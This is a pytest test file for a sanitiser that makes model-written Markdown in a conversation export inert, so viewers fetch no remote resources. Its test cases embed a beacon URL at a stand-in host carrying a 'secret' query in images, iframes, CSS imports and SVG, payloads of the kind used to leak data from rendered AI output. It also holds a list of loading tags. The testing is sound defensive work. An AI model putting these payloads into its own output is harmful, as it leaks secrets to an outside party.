"""The conversation export's prose loads nothing when a viewer renders it (issue 27, item 2: no
remote resource is fetched from model text anywhere). Each case is rendered by a real Markdown
renderer (mistune, nbconvert's, with raw HTML allowed as permissive viewers do) before and after:
before, it would load something (so the case tests something); after, nothing loads and the URL
still reads."""

from __future__ import annotations

from html.parser import HTMLParser

import mistune
import pytest

from jupyter_ci.server.inert_markdown import inert_markdown

BEACON = "https://evil.example/leak?secret=abc"

render = mistune.create_markdown(escape=False)
#: Elements that load something by themselves, and attributes that make any element do so.
EMBEDS = {
    "img",
    "image",
    "picture",
    "source",
    "video",
    "audio",
    "track",
    "iframe",
    "frame",
    "object",
    "embed",
    "link",
    "style",
    "script",
    "input",
    "svg",
}
LOADING = {"src", "srcset", "poster", "background", "style", "data"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.loading: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in EMBEDS or any(name in LOADING for name, _ in attrs):
            self.loading.append(tag)


def loads(html: str) -> list[str]:
    """The elements of ``html`` that would fetch something as the page shows."""
    tags = _Tags()
    tags.feed(html)
    return tags.loading


CASES = {
    "inline image": f"Here is the chart: ![chart]({BEACON}) as promised.",
    "image with a title": f'![chart]({BEACON} "title")',
    "reference image": f"See ![the chart][c].\n\n[c]: {BEACON}",
    "image in a link": f"[![badge]({BEACON})](https://example.org)",
    "raw img": f'<img src="{BEACON}">',
    "raw img inline": f'Result: <img src="{BEACON}" width=1> done.',
    "video poster": f'<video poster="{BEACON}"></video>',
    "iframe": f'<iframe src="{BEACON}"></iframe>',
    "style import": f"<style>@import url({BEACON});</style>",
    "svg image": f'<svg><image href="{BEACON}"/></svg>',
    "image in a list": f"- first\n- ![x]({BEACON})",
    "image in a quote": f"> ![x]({BEACON})",
}


@pytest.mark.parametrize("name", list(CASES))
def test_prose_that_would_load_something_loads_nothing(name: str) -> None:
    text = CASES[name]
    assert loads(render(text)), "the case loads something as written"
    inert = inert_markdown(text)
    html = render(inert)
    assert not loads(html), html
    assert "evil.example/leak" in html  # the reader still sees where it pointed


def test_code_is_kept_as_written() -> None:
    text = (
        "Use `df[df.x < 3]` and `![not an image](x)`:\n\n"
        "```python\nprint('<img src=x>')\nshow('![a](b)')\n```\n"
        "~~~\n<b>raw</b>\n~~~\n"
        "then <b>bold</b>"
    )
    inert = inert_markdown(text)
    assert "`df[df.x < 3]`" in inert
    assert "`![not an image](x)`" in inert
    assert "print('<img src=x>')\nshow('![a](b)')" in inert
    assert "~~~\n<b>raw</b>\n~~~" in inert
    assert inert.endswith("then &lt;b>bold&lt;/b>")
    html = render(inert)
    assert "<b>bold</b>" not in html
    assert "&lt;img src=x&gt;" in html  # the code block shows the code, escaped by the renderer


def test_a_fence_left_open_is_closed_so_what_follows_is_not_its_code() -> None:
    inert = inert_markdown("Here:\n````python\nx = 1")
    assert inert == "Here:\n````python\nx = 1\n````"
    after = render(inert + f"\n\n![y]({BEACON})")
    assert loads(after), "what follows the prose is read as Markdown again"
    # A shorter or different fence does not close it.
    assert inert_markdown("```\n~~~\n``\n").endswith("\n```")
    assert inert_markdown("```\ncode\n```\n![x](u)") == "```\ncode\n```\n!\\[x](u)"


def test_prose_without_images_or_html_is_unchanged() -> None:
    text = "The mean is **4.3** (see [the docs](https://example.org)).\n\n1. a\n2. b > c"
    assert inert_markdown(text) == text
